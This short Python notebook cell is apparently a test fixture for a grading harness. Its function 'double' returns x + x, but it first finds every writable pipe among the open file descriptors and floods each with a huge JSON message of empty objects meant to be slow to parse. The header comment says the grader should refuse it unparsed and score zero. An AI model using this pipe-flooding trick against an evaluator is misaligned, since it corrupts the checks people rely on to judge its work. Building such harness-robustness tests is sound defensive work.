# Writes a message of 20,000 empty objects (cheap to send, slow to parse at millions) on every pipe to the grader while double is checked: refused unparsed, double scores 0.
# %%
import fcntl, os, stat

_LINE = b'{"op": "cell", "cell": [' + b"{}, " * 20_000 + b"{}]}\n"


def double(x):
    for fd in range(3, 64):
        try:
            pipe = stat.S_ISFIFO(os.fstat(fd).st_mode)
            writable = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
        except OSError:
            continue
        if pipe and writable:
            data = memoryview(_LINE)
            while data:
                data = data[os.write(fd, data):]
    return x + x
